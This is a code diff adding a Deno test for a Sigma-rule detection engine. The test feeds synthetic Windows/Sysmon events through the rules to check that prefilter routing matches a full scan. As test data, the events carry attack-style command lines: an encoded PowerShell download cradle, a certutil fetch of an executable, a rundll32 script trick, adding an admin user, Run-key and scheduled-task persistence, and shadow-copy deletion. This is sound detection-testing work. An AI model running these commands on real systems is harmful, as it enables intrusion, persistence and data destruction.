@@ -7,6 +7,7 @@ import assert from "node:assert/strict";
 import { loadRuleSet } from "../../../stages/detector/sigma/load.ts";
 import { SigmaDetector } from "../../../stages/detector/sigma/engine.ts";
 import { event } from "./_helpers.ts";
+import { EventView } from "../../../stages/detector/sigma/fields.ts";
 
 const CORPUS = new URL("../../../../shared/sigmahq/", import.meta.url);
 
@@ -92,5 +93,87 @@ Deno.test({
       !none.some((t) => /whoami/i.test(t)),
       `unexpected: ${none.join("; ")}`,
     );
+  },
+});
+
+const IMAGES = [
+  "C:\\Windows\\System32\\svchost.exe",
+  "C:\\Windows\\System32\\cmd.exe",
+  "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+  "C:\\Windows\\System32\\rundll32.exe",
+  "C:\\Windows\\System32\\whoami.exe",
+  "C:\\Windows\\System32\\certutil.exe",
+  "C:\\Windows\\System32\\reg.exe",
+];
+const COMMANDS = [
+  "cmd.exe /c dir",
+  "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+  'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
+  "whoami /all",
+  "net user admin P@ss /add",
+  "certutil -urlcache -split -f http://198.51.100.7/a.exe",
+  "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe",
+  "schtasks /create /tn x /tr calc.exe /sc onlogon",
+  "vssadmin delete shadows /all /quiet",
+];
+
+Deno.test({
+  name: available
+    ? "prefilter: routing with the literal index selects exactly the rules a full scan matches"
+    : "prefilter: IGNORED because ../shared/sigmahq is not beside the repo",
+  ignore: !available,
+  async fn() {
+    const set = await loadRuleSet([CORPUS.pathname]);
+    const view = new EventView(set.fields);
+    let matched = 0;
+    for (let i = 0; i < 400; i++) {
+      const image = IMAGES[i % IMAGES.length];
+      const ev = event({
+        format: "windows_evtx",
+        payload: {
+          Event: {
+            System: {
+              EventID: [1, 1, 3, 11, 13, 22, 4688][i % 7],
+              Channel: i % 7 === 6
+                ? "Security"
+                : "Microsoft-Windows-Sysmon/Operational",
+            },
+            EventData: {
+              Image: image,
+              NewProcessName: image,
+              CommandLine: COMMANDS[i % COMMANDS.length],
+              ParentImage: IMAGES[(i + 2) % IMAGES.length],
+              OriginalFileName: image.split("\\").pop(),
+              TargetFilename: `C:\\Users\\Public\\${
+                COMMANDS[i % 3].split(" ")[0]
+              }`,
+              TargetObject:
+                "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
+              QueryName: [
+                "pastebin.com",
+                "example.org",
+                "ngrok.io",
+                "raw.githubusercontent.com",
+              ][i % 4],
+              DestinationPort: [4444, 443, 3389][i % 3],
+            },
+          },
+        },
+      });
+      view.reset(ev as unknown as Record<string, unknown>);
+      const fast = set.router.route(view).filter((r) => r.match(view)).map((
+        r,
+      ) => r.index);
+      view.reset(ev as unknown as Record<string, unknown>);
+      const full = set.router.rulesFor(view).filter((r) => r.match(view)).map((
+        r,
+      ) => r.index);
+      assert.deepEqual(fast, full, `event ${i}`);
+      matched += full.length;
+    }
+    console.log(
+      `prefilter: ${matched} rule matches over 400 events, identical to a full scan`,
+    );
+    assert.ok(matched > 100, `too few matches to prove anything: ${matched}`);
   },
 });
